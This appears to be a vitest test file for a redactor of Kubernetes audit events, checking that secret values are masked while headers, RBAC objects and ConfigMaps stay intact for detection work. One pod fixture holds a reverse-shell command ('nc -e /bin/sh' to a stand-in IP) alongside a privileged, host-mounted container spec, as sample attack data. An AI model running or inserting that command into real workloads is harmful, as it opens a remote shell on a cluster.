import { describe, expect, it } from "vitest";
import { redact } from "./redacted.ts";
import { secretFor } from "./secrets.ts";
import { SURFACES } from "./surfaces.ts";

/** What investigators and detections live on. */
const HEADER = {
  level: "RequestResponse",
  auditID: "8e4f4dd6-79b6-41ea-a056-0a39f00d8287",
  stage: "ResponseComplete",
  requestURI: "/api/v1/namespaces/shop/pods",
  verb: "create",
  user: {
    username: "system:serviceaccount:shop:web",
    uid: "8e4f4dd6-79b6-41ea-a056-0a39f00d8288",
    groups: ["system:serviceaccounts", "system:authenticated"],
    extra: {
      arn: ["arn:aws:sts::111122223333:assumed-role/ops/jane"],
      canonicalArn: ["arn:aws:iam::111122223333:role/ops"],
      sessionName: ["jane"],
      principalId: ["AROAEXAMPLEROLEID"],
      accessKeyId: ["ASIAIOSFODNN7EXAMPLE"],
      "authentication.kubernetes.io/credential-id": ["JTI=8e4f4dd6-79b6-41ea-a056-0a39f00d8289"],
      "authentication.kubernetes.io/pod-name": ["web-0"],
    },
  },
  impersonatedUser: { username: "jane@example.com", groups: ["system:masters"] },
  sourceIPs: ["203.0.113.7"],
  userAgent: "kubectl/v1.33.1 (linux/amd64) kubernetes/8adc0f0",
  responseStatus: {
    metadata: {},
    code: 403,
    reason: "Forbidden",
    status: "Failure",
    message: 'pods is forbidden: User "jane" cannot create resource "pods"',
  },
  requestReceivedTimestamp: "2026-01-05T10:00:00.000000Z",
  stageTimestamp: "2026-01-05T10:00:00.100000Z",
  annotations: {
    "authorization.k8s.io/decision": "forbid",
    "authorization.k8s.io/reason":
      'RBAC: allowed by ClusterRoleBinding "token-admins/secrets" of ClusterRole "admin" to User "jane"',
    "authentication.kubernetes.io/issued-credential-id": "JTI=8e4f4dd6-79b6-41ea-a056-0a39f00d8290",
    "pod-security.kubernetes.io/enforce-policy": "privileged:latest",
    "apiserver.latency.k8s.io/etcd": "1.234ms",
    "k8s.io/deprecated": "true",
    "audit.k8s.io/truncated": "true",
  },
};

describe("utility", () => {
  it("the header of an event stays", () => {
    const { event, hits } = redact(HEADER);
    expect(hits).toEqual([]);
    expect(event).toMatchObject(HEADER);
  });

  it.each(SURFACES)("verb, user, decision and status stay beside surface $surface: $name", ({ plant, kind }) => {
    const { user, userAgent, annotations, requestURI, verb, auditID, responseStatus, impersonatedUser, ...rest } =
      HEADER;
    const header: Record<string, unknown> = {
      ...rest,
      user,
      userAgent,
      annotations,
      requestURI,
      verb,
      auditID,
      responseStatus,
      impersonatedUser,
    };
    const planted = plant(secretFor(kind, 9)) as Record<string, unknown>;
    const { event } = redact({ ...header, ...planted });
    for (const key of Object.keys(header)) if (planted[key] === undefined) expect(event[key], key).toEqual(header[key]);
    const ref = planted["objectRef"] as Record<string, unknown> | undefined;
    for (const key of ["resource", "subresource", "namespace", "apiGroup"])
      expect(event.objectRef?.[key]).toBe(ref?.[key]);
  });

  it("what makes a pod dangerous stays, and what it runs", () => {
    const spec = {
      serviceAccountName: "web",
      hostNetwork: true,
      hostPID: true,
      nodeName: "ip-192-0-2-17",
      containers: [
        {
          name: "web",
          image:
            "registry.example.com/shop/web:1.2.3@sha256:2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae",
          command: ["/bin/sh", "-c", "nc -e /bin/sh 203.0.113.9 4444"],
          args: ["--listen=0.0.0.0:8080"],
          env: [
            { name: "POD_IP", valueFrom: { fieldRef: { fieldPath: "status.podIP" } } },
            { name: "K", valueFrom: { secretKeyRef: { name: "db", key: "password" } } },
          ],
          envFrom: [{ secretRef: { name: "db" } }],
          securityContext: { privileged: true, runAsUser: 0, capabilities: { add: ["SYS_ADMIN"] } },
          volumeMounts: [{ name: "host", mountPath: "/host" }],
          livenessProbe: { httpGet: { path: "/healthz", port: 8080 } },
        },
      ],
      volumes: [
        { name: "host", hostPath: { path: "/", type: "Directory" } },
        { name: "s", secret: { secretName: "db", items: [{ key: "password", path: "pw" }] } },
        {
          name: "t",
          projected: {
            sources: [{ serviceAccountToken: { audience: "vault", expirationSeconds: 3600, path: "token" } }],
          },
        },
      ],
      imagePullSecrets: [{ name: "registry" }],
    };
    const { event, hits } = redact({ objectRef: { resource: "pods" }, requestObject: { kind: "Pod", spec } });
    expect(hits).toEqual([]);
    expect(event.requestObject.spec).toEqual(spec);
  });

  it("RBAC stays", () => {
    const role = {
      kind: "ClusterRole",
      metadata: { name: "secret-reader", annotations: { "rbac.authorization.kubernetes.io/autoupdate": "true" } },
      rules: [
        {
          apiGroups: [""],
          resources: ["secrets", "serviceaccounts/token", "tokenreviews"],
          resourceNames: ["db-password"],
          verbs: ["*"],
        },
      ],
    };
    const binding = {
      kind: "ClusterRoleBinding",
      roleRef: { kind: "ClusterRole", name: "cluster-admin" },
      subjects: [{ kind: "User", name: "jane" }],
    };
    const { event, hits } = redact({ requestObject: role, responseObject: binding });
    expect(hits).toEqual([]);
    expect(event.requestObject).toEqual(role);
    expect(event.responseObject).toEqual(binding);
  });

  it("what a Secret is stays: name, type, labels, the names of its keys", () => {
    const { event } = redact({
      objectRef: { resource: "secrets" },
      requestObject: {
        kind: "Secret",
        type: "kubernetes.io/tls",
        metadata: { name: "tls", labels: { app: "web" } },
        data: { "tls.crt": "eA==", "tls.key": "eQ==" },
      },
    });
    expect(event.requestObject).toEqual({
      kind: "Secret",
      type: "kubernetes.io/tls",
      metadata: { name: "tls", labels: { app: "web" } },
      data: { "tls.crt": "[REDACTED:secret.data]", "tls.key": "[REDACTED:secret.data]" },
    });
  });

  it("the ConfigMaps that detections need stay", () => {
    const cases: [string, string, Record<string, string>][] = [
      [
        "kube-system",
        "aws-auth",
        { mapRoles: "- rolearn: arn:aws:iam::111122223333:role/ops\n  username: ops\n  groups: [system:masters]\n" },
      ],
      ["kube-system", "coredns", { Corefile: ".:53 {\n  forward . 203.0.113.53\n}\n" }],
      ["shop", "kube-root-ca.crt", { "ca.crt": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n" }],
    ];
    for (const [namespace, name, data] of cases) {
      const { event } = redact({
        objectRef: { resource: "configmaps", namespace, name },
        requestObject: { kind: "ConfigMap", metadata: { name, namespace }, data },
        responseObject: { data },
      });
      expect(event.requestObject.data).toEqual(data);
      expect(event.responseObject.data).toEqual(data);
    }
    const patched = redact({
      objectRef: { resource: "configmaps", namespace: "shop", name: "aws-auth" },
      requestObject: { data: { mapRoles: "x" } },
    });
    expect(patched.event.requestObject.data.mapRoles).toBe("[REDACTED:configmap.data]");
  });

  it("quotas and schemas name things, they do not hold them", () => {
    const quota = { kind: "ResourceQuota", spec: { hard: { secrets: "10", "count/secrets": "10" } } };
    const crd = {
      kind: "CustomResourceDefinition",
      spec: {
        versions: [
          {
            schema: {
              openAPIV3Schema: {
                properties: {
                  password: { type: "string", description: "A pin." },
                  env: { type: "array" },
                  data: { type: "object" },
                },
              },
            },
          },
        ],
      },
    };
    const { hits } = redact({ requestObject: quota, responseObject: crd });
    expect(hits).toEqual([]);
  });
});
